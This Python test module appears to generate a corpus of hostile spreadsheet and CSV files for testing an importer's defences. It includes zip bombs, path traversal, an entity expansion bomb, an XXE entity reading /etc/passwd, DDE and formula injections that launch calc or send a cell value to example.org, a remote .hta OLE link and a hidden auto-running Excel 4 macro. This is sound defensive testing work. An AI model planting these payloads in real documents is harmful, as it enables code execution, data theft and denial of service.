"""Files somebody may send on purpose: bombs, giants, links, DDE, macros, entities, formulas in text."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from typing import NamedTuple

import openpyxl
from openpyxl.worksheet.table import Table

OLE = bytes.fromhex("d0cf11e0a1b11ae1")
WORKBOOK, RELATIONS, TYPES = "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
HERE = f'xmlns:r="{OFFICE}"'


class Recipe(NamedTuple):
    """A file to be tried: its name in reports, its suffix, and what makes it."""

    name: str
    suffix: str
    make: Callable[[], bytes]


def client_list() -> bytes:
    """A client list as agents keep it."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Имя клиента", "Телефон", "E-mail"])
    for number in range(30):
        sheet.append([f"Клиент {number}", f"8916000{number:04d}", f"c{number}@example.org"])
    sheet.add_table(Table(displayName="tblMine", ref="A1:C31"))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def unpacked(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _with(zeroes: Mapping[str, int]) -> bytes:
    """The client list with parts that unpack to so many bytes."""
    return packed(unpacked(client_list()) | {name: bytes(size) for name, size in zeroes.items()})


def designed(workbook: bytes) -> Iterator[Recipe]:
    """All of them; `workbook` is one of ours."""
    for name, suffix, make in _WHOLE:
        yield Recipe(name, suffix, make)
    for number, text in enumerate(_FORMULAS):
        line = f"Имя клиента;Телефон\n{text};8916\n".encode()
        yield Recipe(f"formula in text {number}", "csv", partial(bytes, line))
    for of, suffix, data in (("plain list", "xlsx", client_list()), ("our workbook", "xlsm", workbook)):
        for what, edit in _EDITS.items():
            yield Recipe(f"{of}: {what}", suffix, partial(_edited, data, edit))


_FORMULAS = (
    '=cmd|"/c calc"!A1', '+HYPERLINK("http://example.org")', "@SUM(1)", "=1+1", "-2+3+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.org/"&A1)', "\t=1+1", "=DDE(\"cmd\";\"/C calc\";\"a\")",
)  # fmt: skip
_WHOLE: tuple[tuple[str, str, Callable[[], bytes]], ...] = (
    ("empty", "xlsx", bytes),
    ("spaces", "csv", lambda: b"   \n \n"),
    ("old Excel header only", "xls", lambda: OLE + bytes(600)),
    ("encrypted header only", "xlsx",
     lambda: OLE + bytes(512) + "EncryptedPackage".encode("utf-16-le") + bytes(512)),
    ("a picture called a table", "xlsx", lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20),
    ("a web page called a table", "xls", lambda: "<html><table><tr><td>Имя</td></tr></table></html>".encode()),
    ("an empty zip", "xlsx", lambda: packed({})),
    ("a bomb", "xlsx", lambda: packed({WORKBOOK: b"<a/>", "xl/worksheets/sheet1.xml": bytes(900_000_000)})),
    ("a bomb of strings", "xlsx", partial(_with, {"xl/sharedStrings.xml": 900_000_000})),
    ("many parts", "xlsx", lambda: packed({f"part{n}.xml": b"<a/>" for n in range(6_000)})),
    ("a part outside the folder", "xlsx", lambda: packed(unpacked(client_list()) | {"../../outside.txt": b"x"})),
    ("a part with a drive", "xlsx", lambda: packed(unpacked(client_list()) | {"C:\\outside.txt": b"x"})),
    ("a line of 5 MB", "csv", lambda: b"name;phone\n" + b"x" * 5_000_000),
    ("a million lines", "csv", lambda: b"name;phone\n" + b"Ivan;1\n" * 1_000_000),
    ("100 000 columns", "csv", lambda: b";".join(b"c" for _ in range(100_000)) + b"\n"),
    ("NUL bytes", "csv", lambda: b"name;phone\nIvan\0ov;1\0\n"),
    ("open quotes", "csv", lambda: b'name;phone\n"Ivanov;1\n' * 2_000),
    ("an archive of archives", "xlsx", lambda: packed({f"{n}.zip": packed({"a": bytes(9_000_000)}) for n in range(9)})),
)  # fmt: skip

Parts = dict[str, bytes]
Edit = Callable[[Parts, str], None]
"""Changes the parts of a workbook; it is told the first sheet."""


def _edited(data: bytes, edit: Edit) -> bytes:
    parts = unpacked(data)
    edit(parts, next(name for name in parts if name.startswith("xl/worksheets/sheet")))
    return packed(parts)


def _put(content: bytes, name: str = "") -> Edit:
    """Replace a part, the first sheet when it is not named."""
    return lambda parts, sheet: parts.__setitem__(name or sheet, content)


def _swap(old: bytes, new: bytes, name: str = "") -> Edit:
    """Replace a text in a part."""
    return lambda parts, sheet: parts.__setitem__(name or sheet, parts[name or sheet].replace(old, new))


def _row(cells: str) -> Edit:
    """One more row at the end of the first sheet."""
    row = f'<row r="900">{cells}</row></sheetData>'.encode()
    return _swap(b"</sheetData>", row)


def _added(
    part: str, content: str, kind: str, content_type: str, reference: str = "", also: Edit | None = None
) -> Edit:
    """A part beside the workbook with its relation; `reference` is put into the workbook and names it as rIdX."""

    def edit(parts: Parts, sheet: str) -> None:
        parts[part] = content.encode()
        link = f'<Relationship Id="rIdX" Type="{kind}" Target="/{part}"/></Relationships>'.encode()
        parts[RELATIONS] = parts[RELATIONS].replace(b"</Relationships>", link)
        override = f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'.encode()
        parts[TYPES] = parts[TYPES].replace(b"</Types>", override)
        parts[WORKBOOK] = parts[WORKBOOK].replace(b"</workbook>", f"{reference}</workbook>".encode())
        if also:
            also(parts, sheet)

    return edit


def _link(body: str, also: Edit | None = None, target: str = "") -> Edit:
    """An external link, as Excel keeps DDE and other workbooks; `target` is the file of its relation."""

    def both(parts: Parts, sheet: str) -> None:
        if target:
            relation = (
                f'<Relationship Id="rId1" Type="{OFFICE}/externalLinkPath" Target="{target}" TargetMode="External"/>'
            )
            head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            parts["xl/externalLinks/_rels/externalLink9.xml.rels"] = f"{head}{relation}</Relationships>".encode()
        if also:
            also(parts, sheet)

    return _added(
        "xl/externalLinks/externalLink9.xml", f"<externalLink {MAIN}>{body}</externalLink>", f"{OFFICE}/externalLink",
        f"{SPREADSHEET}.externalLink+xml",
        f'<externalReferences {HERE}><externalReference r:id="rIdX"/></externalReferences>', both,
    )  # fmt: skip


_DDE = '<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'
_MACRO_SHEET = f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" {MAIN}><sheetData>' \
    '<row r="1"><c r="A1"><f>EXEC("calc.exe")</f><v>1</v></c></row></sheetData></xm:macrosheet>'  # fmt: skip
_HEAD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"ha" * 50 + b'">'
_GROWING = _HEAD + b"".join(
    b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10 if n else b"&a;" * 10) for n in range(9)
)
_OF_A_FILE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
_FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
_EDITS: Mapping[str, Edit] = {
    "entities that grow": _put(_GROWING + b"]><x>&a8;</x>"),
    "entities in the strings": _put(_GROWING + b"]><sst><si><t>&a8;</t></si></sst>", "xl/sharedStrings.xml"),
    "an entity of a file": _put(_OF_A_FILE, WORKBOOK),
    "a far cell": _swap(b"</sheetData>", _FAR),
    "a huge dimension": _swap(b'<dimension ref="', b'<dimension ref="A1:XFD1048576" x="'),
    "no end of the sheet": _swap(b"</sheetData>", b""),
    "no workbook": _put(b"", WORKBOOK),
    "types of nothing": _put(b"<Types/>", TYPES),
    "deep elements": _put(b"<a>" * 100_000),
    "wrong letters": _swap(b"UTF-8", b"UTF-16"),
    "a lost link": _swap(
        b"</workbook>",
        f'<externalReferences {HERE}><externalReference r:id="rId999"/></externalReferences></workbook>'.encode(),
        WORKBOOK,
    ),
    "DDE in a link": _link(_DDE, _row('<c r="A900" t="str"><f>[1]!A0</f><v>x</v></c>')),
    "DDE in a formula": _row('<c r="A900" t="str"><f>cmd|\'/C calc\'!A0</f><v>Клиент</v></c>'),
    "DDE in a formula without a result": _row("<c r=\"A900\"><f>cmd|'/C calc'!A0</f></c>"),
    "a link to another computer": _link(
        f'<externalBook {HERE} r:id="rId1"><sheetNames><sheetName val="a"/></sheetNames></externalBook>',
        _row('<c r="A900" t="str"><f>[1]a!A1</f><v>x</v></c>'), "file://///example.org/share/a.xlsx",
    ),
    "OLE in a link": _link(f'<oleLink {HERE} r:id="rId1" progId="htmlfile"/>', target="http://example.org/a.hta"),
    "a query of the web": _added(
        "xl/connections.xml",
        f'<connections {MAIN}><connection id="1" type="4" refreshedVersion="6" refreshOnLoad="1">'
        '<webPr url="http://example.org/"/></connection></connections>',
        f"{OFFICE}/connections", f"{SPREADSHEET}.connections+xml",
    ),
    "macros": _added(
        "xl/vbaProject.bin", "Auto_Open", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "application/vnd.ms-office.vbaProject",
    ),
    "macros of Excel 4": _added(
        "xl/macrosheets/sheet1.xml", _MACRO_SHEET, "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
        "application/vnd.ms-excel.macrosheet+xml",
        also=_swap(b"</sheets>", f'<sheet {HERE} name="Macro" sheetId="999" state="veryHidden" r:id="rIdX"/></sheets>'
                   '<definedNames><definedName name="_xlnm.Auto_Open">Macro!$A$1</definedName></definedNames>'.encode(),
                   WORKBOOK),
    ),
    "a control that runs": _added(
        "xl/activeX/activeX1.xml", '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
        f"{OFFICE}/control", "application/vnd.ms-office.activeX+xml",
    ),
    "a formula of a million letters": _row(f'<c r="A900"><f>{"1+" * 500_000}1</f><v>1</v></c>'),
    "a text of 5 million letters": _row(f'<c r="A900" t="inlineStr"><is><t>{"х" * 5_000_000}</t></is></c>'),
    "a string that is not there": _row('<c r="A900" t="s"><v>99999999</v></c>'),
    "a number that is none": _row('<c r="A900"><v>1e99999</v></c><c r="B900"><v>abc</v></c>'),
    "cells twice": _row('<c r="A900"><v>1</v></c><c r="A900"><v>2</v></c>'),
    "rows upside down": _swap(b"</sheetData>", b'<row r="900"/><row r="2"/></sheetData>'),
    "a sheet that is itself": _swap(b"worksheets/sheet1.xml", b"workbook.xml", RELATIONS),
    "a sheet outside": _swap(b"worksheets/sheet1.xml", b"../../../../etc/passwd", RELATIONS),
}  # fmt: skip
